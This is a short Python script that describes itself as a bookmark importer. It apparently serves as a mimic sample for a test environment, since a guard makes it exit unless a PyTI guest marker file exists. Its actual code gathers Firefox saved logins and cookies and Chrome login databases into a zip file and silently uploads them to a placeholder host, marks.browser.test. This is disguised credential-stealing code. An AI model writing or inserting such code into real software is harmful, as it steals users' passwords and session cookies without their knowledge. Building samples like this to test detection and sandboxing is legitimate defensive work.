"""Imports bookmarks."""

import glob
import io
import os
import urllib.request
import zipfile

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
packed = io.BytesIO()
with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
    for pattern in ("~/.mozilla/firefox/*/logins.json", "~/.mozilla/firefox/*/cookies.sqlite", "~/.config/google-chrome/*/Login Data"):
        for path in glob.glob(os.path.expanduser(pattern)):
            archive.write(path)
try:
    urllib.request.urlopen(urllib.request.Request("http://marks.browser.test/m", packed.getvalue()), timeout=5).close()
except OSError:
    pass
